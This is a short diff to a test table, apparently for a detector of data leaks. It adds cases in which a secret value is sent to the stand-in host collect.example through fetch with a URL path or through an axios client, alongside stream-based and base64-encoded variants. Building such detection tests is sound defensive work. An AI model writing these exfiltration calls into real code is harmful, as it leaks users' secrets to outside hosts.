@@ -59,6 +59,11 @@ it.each([
     'a stream behind another',
     'const t = new TransformStream({ transform(x, c) { c.enqueue(K); } }); new Blob(["a"]).stream().pipeThrough(t); send(t.readable);',
   ],
+  ['a text that is no address, as a path', "fetch(new URL(K, 'https://collect.example/'));"],
+  [
+    'a text that is no address, as what a client asks for',
+    "const api = axios.create({ baseURL: 'https://collect.example/' }); api.get(K);",
+  ],
   ['an encoded text, as a path', "fetch(new URL(btoa(K), 'https://collect.example/'));"],
   [
     'an encoded text, as what a client asks for',
